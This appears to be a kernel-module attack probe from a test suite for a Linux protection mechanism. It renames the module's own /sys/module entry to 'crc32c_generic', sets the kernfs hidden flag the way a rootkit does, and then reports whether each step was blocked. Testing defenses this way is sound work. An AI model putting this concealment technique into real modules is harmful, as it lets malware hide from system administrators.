// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: hide in sysfs through its heap nodes. Rename the module's own
 * /sys/module entry (its kernfs_node, from kernfs_node_cache) to the name
 * of a module everyone has, and set the node's hidden flag, which a
 * rootkit sets to drop its directory from listings.
 */
#include <linux/module.h>
#include <linux/kernfs.h>
#include <linux/kobject.h>
#include "alias.h"

static const char decoy[] = "crc32c_generic";

static int __init atk_init(void)
{
	struct kernfs_node *kn = THIS_MODULE->mkobj.kobj.sd;
	volatile unsigned short *flags;
	unsigned short old;
	const char *renamed;
	bool hidden;

	if (!kn)
		return -ENOENT;
	renamed = swap_held((volatile unsigned long *)&kn->name, (unsigned long)decoy);
	flags = &kn->flags;
	old = *flags;
	*flags = old | KERNFS_HIDDEN;
	hidden = *flags != old;
	if (hidden)
		*flags = old;
	report("/sys/module entry renamed %s, hidden %s", renamed, hidden ? "WENT THROUGH" : "blocked");
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
